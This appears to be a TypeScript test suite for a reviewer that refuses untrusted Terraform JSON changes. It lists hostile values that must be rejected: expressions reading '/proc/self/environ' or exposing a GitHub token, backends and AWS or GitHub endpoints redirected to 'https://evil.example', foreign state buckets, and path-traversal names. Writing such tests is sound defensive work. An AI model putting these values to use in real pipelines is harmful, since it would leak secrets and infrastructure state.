import { DATA_TYPES, FUNCTIONS, RESOURCE_TYPES } from '../../../../../cli/review/untrusted/allowed';
import { checkStack } from '../../../../../cli/review/untrusted/check-stack';
import type { Json, JsonObject } from '../../../../../cli/review/untrusted/read-json';
import { trustedPlatform } from '../../../../../cli/review/untrusted/trusted-platform';
import { everyPlatform, everyResource, synthesizePlatform } from '../../../../helpers/every-platform';
import { testPlatform } from '../../../../helpers/test-platform';
import { stacksOf } from './made-folder';

const app = synthesizePlatform(testPlatform());
const platform = trustedPlatform(stacksOf(app));

/** A copy of the JSON of a stack with a value somewhere in it. @param path names of properties; what is missing is made */
function withValue(stack: string, path: readonly string[], value: Json): JsonObject {
  const json = structuredClone(app.stacks.get(stack)) as unknown as Record<string, unknown>;
  const last = path.at(-1) ?? '';
  const parent = path.slice(0, -1).reduce((at, name) => (at[name] ??= {}) as Record<string, unknown>, json);
  if (value === null) Reflect.deleteProperty(parent, last);
  else parent[last] = value;
  return json as JsonObject;
}

/** What is refused of a stack in which something was changed. */
function refused(path: readonly string[], value: Json, stack = 'dev-hello', types: readonly string[] = []): string[] {
  const problems = checkStack(stack, withValue(stack, path, value), { platform, types: new Set(types) });
  return problems.map(({ path: at, found }) => `${at}: ${found}`);
}

const [vpc = ''] = Object.keys(app.stacks.get('dev-network')?.resource?.['aws_vpc'] ?? {});
const [origin = ''] = Object.keys(app.stacks.get('dev-hello')?.data?.['aws_ssm_parameter'] ?? {});
const [own = ''] = Object.keys(app.stacks.get('dev-hello')?.resource?.['aws_ssm_parameter'] ?? {});

/** What is refused of the VPC if an argument of it is this. */
function inVpc(argument: string, value: Json): string[] {
  return refused(['resource', 'aws_vpc', vpc, argument], value, 'dev-network');
}

describe('an expression in the JSON of a change', () => {
  it.each([
    '${file("/proc/self/environ")}',
    '${file("/etc/hostname")}',
    'a ${ file("/etc/hostname") } b',
    '${sha256(file("/etc/hostname"))}',
    '${join("", [file("/etc/hostname")])}',
    '${filebase64("/etc/hostname")}',
    '${filemd5("/etc/hostname")}',
    '${fileexists("/etc/hostname")}',
    '${fileset("/", "**")}',
    '${templatefile("/etc/hostname", {})}',
    '${templatestring("x", {})}',
    '${pathexpand("~")}',
    '${abspath(".")}',
    '${nonsensitive(var.github_token)}',
    '${provider::aws::arn_parse("x")}',
    '${path.cwd}',
    '${path.module}',
    '${terraform.workspace}',
    '${local.x}',
    '${module.x.y}',
    '${ephemeral.x.y.z}',
    '${self.id}',
    '${each.value}',
    '${data.external.x.result}',
    '${data.http.x.response_body}',
    '${data.aws_lambda_invocation.x.result}',
    '${data.aws_secretsmanager_secret_version.x.secret_string}',
    '${null_resource.x.id}',
    '${"${file("/etc/hostname")}"}',
    '${"a" == file("x") ? 1 : 2}',
    '${1 > 2 ? file("x") : 1}',
    '${1 > 2 ? 1 : file("x")}',
    '${1 > 2 ? 1}',
    '${1 - file("x")}',
    '${(1}',
    '${format("%{ if true }", 1)}',
    '${format("${file(1)}", 1)}',
    '${format("$${x}", 1)}',
    '${try(file("x"), 1)}',
    '${[for x in ["a"] : file(x)]}',
    '${{ a = file("x") }}',
    '${(file("x"))}',
    '${!false}',
    '${aws_vpc.a["x"]}',
    '${aws_vpc.a[*].id}',
    '${aws_vpc.a.*.id}',
    '${<<E\nx\nE\n}',
    '%{ if true }${file("x")}%{ endif }',
    '%{ for x in [] }%{ endfor }',
    '${~ file("x") ~}',
    '${file ("/etc/hostname")}',
    '${file/**/("/etc/hostname")}',
    '${join("", /* x */ ["a"])}',
    '${"\\u0024{file(1)}"}',
    '${aws_vpc.a.id',
    '$$${file("/etc/hostname")}',
    '$$$${file("/etc/hostname")}',
    '%${file("/etc/hostname")}',
    '$%{ if true }x%{ endif }',
    '${}',
  ])('cannot be %s', (text) => {
    expect(inVpc('cidr_block', text)).toEqual([expect.stringContaining(`resource.aws_vpc.${vpc}.cidr_block: `)]);
  });

  it.each([
    'plain text, $, ${1} without braces $x %y {z}'.replace('${1} ', ''),
    'a program: echo "$${1##*/}" "%%{x}"',
    '${aws_vpc.a-b_C3.id}/${data.terraform_remote_state.a.outputs.b}',
    '${cidrsubnet("10.0.0.0/16", 3, 0)}',
    '${sha256(join("/", [aws_vpc.a.id, sha256(join("/", [aws_vpc.a.id, "shop/hello"]))]))}',
    '${element(data.aws_availability_zones.x.names, -1)}',
    '${(aws_vpc.a.version > 1) ? format("%s:%d", aws_vpc.a.name, (aws_vpc.a.version - 1)) : try(aws_vpc.a.id, aws_vpc.b.id)}',
  ])('may be %s', (text) => {
    expect(inVpc('cidr_block', text)).toEqual([]);
  });

  it.each<[string, readonly string[], Json]>([
    ['in a list in an object', ['resource', 'aws_vpc', vpc, 'tags'], [{ a: ['${file("x")}'] }]],
    ['in the name of a property', ['resource', 'aws_vpc', vpc, 'tags'], { '${file("x")}': 'a' }],
    ['in the name of a resource', ['resource', 'aws_vpc', '${file("x")}'], {}],
    ['in an output', ['output', 'x'], { value: '${file("/etc/hostname")}' }],
    ['in a data source', ['data', 'aws_availability_zones', 'x'], { state: '${file("x")}' }],
    ['in a comment, which Terraform leaves out', ['resource', 'aws_vpc', vpc, '//'], '${file("x")}'],
  ])('is found %s', (_, path, value) => {
    expect(refused(path, value, 'dev-network').join('\n')).toMatch(/the function "file"/);
  });
});

describe('the settings of a change', () => {
  const backend = ['terraform', 'backend', 's3'];
  const aws = [{ region: 'eu-central-1', allowed_account_ids: ['123456789012'] }];

  it.each<[string, readonly string[], Json]>([
    ['a foreign bucket of states', [...backend, 'bucket'], 'mallory'],
    ['the state of another stack', [...backend, 'key'], 'shop/prod-hello.tfstate'],
    ['another address of the states', [...backend, 'endpoints'], { s3: 'https://evil.example' }],
    ['a role for the states', [...backend, 'assume_role'], { role_arn: 'arn:aws:iam::1:role/x' }],
    ['another backend', ['terraform', 'backend'], { http: { address: 'https://evil.example' } }],
    ['a program of another source', ['terraform', 'required_providers', 'aws', 'source'], 'mallory/aws'],
    ['a version that the platform does not support', ['terraform', 'required_providers', 'aws', 'version'], '4.0.0'],
    ['any version', ['terraform', 'required_providers', 'aws', 'version'], null],
    ['another provider', ['terraform', 'required_providers', 'external'], { source: 'hashicorp/external' }],
    ['no version of Terraform', ['terraform', 'required_version'], null],
    ['metadata for providers', ['terraform', 'provider_meta'], { aws: {} }],
    ['no source of the provider', ['terraform', 'required_providers', 'aws'], null],
    ['no configuration of the provider', ['provider', 'aws'], null],
    ['other addresses of AWS', ['provider', 'aws'], [{ ...aws[0], endpoints: [{ sts: 'https://evil.example' }] }]],
    [
      'a role of another account',
      ['provider', 'aws'],
      [{ ...aws[0], assume_role: [{ role_arn: 'arn:aws:iam::1:role/x' }] }],
    ],
    ['any account', ['provider', 'aws'], [{ region: 'eu-central-1' }]],
    ['another region', ['provider', 'aws'], [{ ...aws[0], region: 'us-east-1' }]],
    ['credentials of a file', ['provider', 'aws'], [{ ...aws[0], shared_credentials_files: ['/x'] }]],
    ['a second configuration', ['provider', 'aws'], [...aws, { ...aws[0], alias: 'b' }]],
    [
      'secrets in the tags of all',
      ['provider', 'aws'],
      [{ ...aws[0], default_tags: [{ tags: { a: '${var.github_token}' } }] }],
    ],
  ])('cannot name %s', (_, path, value) => {
    expect(refused(path, value)).toEqual([expect.stringMatching(new RegExp(`^${path[0] ?? ''}`))]);
  });

  it('cannot name another address of GitHub, which would get the token', () => {
    const github = [{ owner: 'example-org', token: '${var.github_token}', base_url: 'https://evil.example/' }];
    expect(refused(['provider', 'github'], github, 'hello-pipeline')).toEqual([
      'provider.github: something else than in the branch that is deployed',
    ]);
  });

  it.each([
    ['sensitive', false],
    ['default', 'x'],
    ['ephemeral', true],
  ] as const)('cannot make a secret plain by %s of a variable', (name, value) => {
    expect(refused(['variable', 'github_token', name], value, 'hello-pipeline')).toEqual([
      'variable.github_token: something else than in the branch that is deployed',
    ]);
  });

  it('cannot bring a variable, which Terraform would ask the environment for', () => {
    expect(refused(['variable', 'aws_secret'], { type: 'string' })).toHaveLength(1);
  });

  it('may change the version of a provider to another one that the platform supports', () => {
    expect(refused(['terraform', 'required_providers', 'aws', 'version'], '~> 6.0')).toEqual([]);
  });

  it('may change the tags of all resources', () => {
    const tags = [{ ...aws[0], default_tags: [{ tags: { team: 'a' } }] }];
    expect(refused(['provider', 'aws'], tags)).toEqual([]);
  });
});

describe('a block of a change', () => {
  it.each(['module', 'locals', 'moved', 'removed', 'check', 'ephemeral', 'action', 'list', 'x'])(
    'cannot be %s',
    (name) => {
      expect(refused([name], {})).toEqual([`${name}: a block ${name}`]);
    },
  );

  it.each(['provisioner', 'connection', 'count', 'for_each', 'provider', 'dynamic'])('cannot have %s', (name) => {
    expect(inVpc(name, name === 'count' ? 100_000 : {})).toEqual([
      `resource.aws_vpc.${vpc}.${name}: the argument ${name}`,
    ]);
  });

  it.each(['precondition', 'postcondition', 'replace_triggered_by', 'action_trigger'])(
    'cannot have %s in its lifecycle',
    (name) => {
      expect(inVpc('lifecycle', { [name]: [] })).toEqual([
        `resource.aws_vpc.${vpc}.lifecycle.${name}: the argument ${name}`,
      ]);
    },
  );

  it.each<[string, readonly string[], Json]>([
    ['a list of resources', ['resource'], []],
    ['a list of types', ['resource', 'aws_vpc'], [{}]],
    ['a list of blocks', ['resource', 'aws_vpc', 'x'], [{ provisioner: {} }]],
    ['a list of data sources', ['data', 'aws_availability_zones'], []],
    ['a list of dependencies that are none', ['resource', 'aws_vpc', vpc, 'depends_on'], [{}]],
    ['a list of lifecycles', ['resource', 'aws_vpc', vpc, 'lifecycle'], []],
    ['a list of outputs', ['output'], []],
    ['a list of settings', ['terraform'], []],
    ['a list of providers', ['provider'], []],
    ['an output with a condition', ['output', 'x'], { value: 'a', precondition: [] }],
  ])('cannot be %s', (_, path, value) => {
    expect(refused(path, value, 'dev-network').length).toBeGreaterThan(0);
  });
});

describe('a resource of a change', () => {
  it.each(['null_resource', 'terraform_data', 'aws_lambda_invocation', 'aws_s3_object', 'local_file', 'aws_instance'])(
    'cannot be of type %s',
    (type) => {
      expect(refused(['resource', type, 'x'], {}).join('\n')).toContain(
        `resource.${type}.x: a resource of type ${type}`,
      );
    },
  );

  it('may be of a type that the config of the base allows', () => {
    expect(refused(['resource', 'aws_sqs_queue', 'x'], { name: 'a' }, 'dev-hello', ['aws_sqs_queue'])).toEqual([]);
  });
});

describe('an import of a change, which a plan reads', () => {
  const group = '/aws/ecs/containerinsights/shop-dev/performance';
  const own = { for_each: '${setintersection([], ["x"])}', to: 'aws_cloudwatch_log_group.x', id: group };

  it.each<[string, Json]>([
    ['a secret', { ...own, to: 'aws_secretsmanager_secret_version.x' }],
    ['a parameter', { ...own, to: 'aws_ssm_parameter.x', id: '/shop/orders/database-url' }],
    ['another log group', { ...own, id: '/shop/prod/orders' }],
    ['what an expression names', { ...own, id: '${var.github_token}' }],
    ['a resource with an index', { ...own, to: 'aws_cloudwatch_log_group.x["a"]' }],
    ['by another provider', { ...own, provider: 'aws.b' }],
    ['by an identity', { for_each: own.for_each, to: own.to, identity: { name: group } }],
    ['always', { to: own.to, id: own.id }],
    ['no block', 'x'],
  ])('cannot be of %s', (_, block) => {
    expect(refused(['import'], [block], 'dev-cluster')).toContain('import.0: an import');
    expect(refused(['import'], [own, block], 'dev-cluster')).toContain('import.1: an import');
  });

  it('cannot be read by a function', () => {
    const block = { ...own, for_each: '${toset([file("/etc/hostname")])}' };
    expect(refused(['import'], [block], 'dev-cluster')).toEqual(['import.0.for_each: the function "toset"']);
  });

  it('may be of the log group of Container Insights', () => {
    expect(refused(['import'], [own], 'dev-cluster')).toEqual([]);
  });
});

describe('a data source of a change', () => {
  it.each([
    'external',
    'http',
    'aws_lambda_invocation',
    'aws_secretsmanager_secret_version',
    'aws_secretsmanager_secret',
    'aws_kms_secrets',
    'aws_s3_object',
    'github_repository_file',
    'local_file',
    'aws_ssm_parameters_by_path',
  ])('cannot be of type %s', (type) => {
    expect(refused(['data', type, 'x'], {}).join('\n')).toContain(`data.${type}.x: a data source of type ${type}`);
  });

  it.each([
    '/shop/orders/database-url',
    '${var.github_token}',
    'x${data.terraform_remote_state.a.outputs.b}',
    '${format("/shop/orders/database-url")}',
    '${format("%s:%d", "/shop/orders/database-url", 1)}',
    '${aws_vpc.a.id}',
    '${"a"}',
    '${1}',
    `\${aws_ssm_parameter.${own}.value}`,
    '${aws_ssm_parameter.other.name}',
  ])('cannot read the parameter %s', (name) => {
    expect(refused(['data', 'aws_ssm_parameter', origin, 'name'], name)).toContain(
      `data.aws_ssm_parameter.${origin}.name: the name of a parameter`,
    );
  });

  it('cannot be shown by an attribute that the provider does not mark as secret', () => {
    expect(refused(['output', 'x'], { value: `\${data.aws_ssm_parameter.${origin}.insecure_value}` })).toEqual([
      'output.x.value: a secret where no stack of the platform has it',
    ]);
  });

  it('cannot read a parameter that it calls its own, but for an origin secret', () => {
    const json = withValue('dev-hello', ['resource', 'aws_ssm_parameter', 'mine'], {
      name: '/shop/orders/database-url',
    });
    const data = json['data'] as Record<string, Record<string, Record<string, Json>>>;
    Object.assign(data['aws_ssm_parameter']?.[origin] ?? {}, { name: '${aws_ssm_parameter.mine.name}' });
    expect(checkStack('dev-hello', json, { platform, types: new Set() })).toEqual([
      expect.objectContaining({ path: `data.aws_ssm_parameter.${origin}.name`, found: 'the name of a parameter' }),
    ]);
  });

  const state = {
    bucket: 'shop-123456789012-eu-central-1-tfstate',
    key: 'shop/dev-network.tfstate',
    region: 'eu-central-1',
  };

  it.each<[string, Json]>([
    ['of a foreign bucket', { backend: 's3', config: { ...state, bucket: 'mallory' } }],
    ['of another platform', { backend: 's3', config: { ...state, key: 'other/dev-network.tfstate' } }],
    ['of a path that leads out', { backend: 's3', config: { ...state, key: 'shop/../other/x.tfstate' } }],
    ['at another address', { backend: 's3', config: { ...state, endpoints: { s3: 'https://evil.example' } } }],
    ['of a file', { backend: 'local', config: { path: '/etc/hostname' } }],
    ['of a server', { backend: 'http', config: { address: 'https://evil.example' } }],
    ['in another workspace', { backend: 's3', config: state, workspace: 'x' }],
  ])('cannot read a state %s', (_, body) => {
    expect(refused(['data', 'terraform_remote_state', 'x'], body)).toEqual([
      'data.terraform_remote_state.x: a state that is not one of this platform',
    ]);
  });

  it.each(['../../../../outside', 'a/b', '.', ''])(
    'cannot be called "%s", which would be the path of a file',
    (name) => {
      expect(refused(['data', 'terraform_remote_state', name], { backend: 's3', config: state })).toEqual([
        expect.stringMatching(/^data\.terraform_remote_state\..*: a name that Terraform does not take$/),
      ]);
    },
  );

  it('may read the state of any stack of the platform', () => {
    expect(refused(['data', 'terraform_remote_state', 'x'], { backend: 's3', config: state })).toEqual([]);
  });
});

describe('what is allowed', () => {
  it('is what the platforms of the tests hold: add to allowed.ts what a stack newly makes, and take out what none makes', () => {
    const made = new Set(everyResource.map(({ type }) => type));
    expect([...RESOURCE_TYPES].sort()).toEqual([...made].sort());
    const stacks = everyPlatform.flatMap((each) => [...each.app.stacks.values()]);
    expect([...DATA_TYPES].sort()).toEqual([...new Set(stacks.flatMap(({ data = {} }) => Object.keys(data)))].sort());
    const texts = everyPlatform.flatMap((each) => [...each.app.texts.values()]).join('\n');
    const called = texts
      .match(/(?<!\$)\$\{[^}]*/g)
      ?.flatMap((text) => [...text.matchAll(/([a-z0-9_]+)\(/g)].map(([, name = '']) => name));
    expect([...FUNCTIONS].sort()).toEqual([...new Set(called)].sort());
  });
});
